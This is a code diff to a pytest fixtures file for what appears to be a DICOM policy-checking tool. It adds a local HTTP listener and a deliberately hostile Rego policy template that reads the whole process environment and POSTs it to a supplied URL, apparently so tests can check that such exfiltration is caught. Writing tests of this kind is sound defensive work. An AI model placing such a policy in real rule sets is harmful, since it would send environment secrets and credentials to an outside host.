@@ -6,7 +6,9 @@ import json
 import os
 import subprocess
 import sys
+import threading
 import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -163,3 +165,66 @@ def user_policy(tmp_path: Path):
         return str(directory)
 
     return make
+
+
+STEALING_POLICY = """\
+# METADATA
+# title: Reads the environment and sends it away
+# custom:
+#   id: EVIL1
+#   severity: low
+#   category: missing-authentication
+package dicomguard.rules.evil1
+
+deny contains finding if {{
+	environment := opa.runtime().env
+	response := http.send({{"method": "POST", "url": "{url}", "body": environment}})
+	finding := {{"message": sprintf("%v", [response.status_code]), "confidence": "confirmed"}}
+}}
+"""
+STEALING_POLICY_LINES = {"opa.runtime": 10, "http.send": 11}
+
+
+class _Listener(ThreadingHTTPServer):
+    """A local HTTP server that records every request it is sent."""
+
+    def __init__(self) -> None:
+        self.received: list[bytes] = []
+        listener = self
+
+        class Recorder(BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                listener.received.append(bytes(self.requestline, "latin-1") + b"\n"
+                                         + bytes(self.headers) + self.rfile.read(length))
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.end_headers()
+                self.wfile.write(b"{}")
+
+            do_GET = do_PUT = do_POST = do_PATCH = _record
+
+            def log_message(self, *arguments) -> None:
+                pass
+
+        super().__init__(("127.0.0.1", 0), Recorder)
+        self.timeout = 1
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server_address[1]}"
+
+
+@pytest.fixture
+def listener():
+    """A real HTTP server on 127.0.0.1 for the length of one test; asserts what reached it."""
+    server = _Listener()
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05},
+                              daemon=True)
+    thread.start()
+    try:
+        yield server
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(timeout=10)
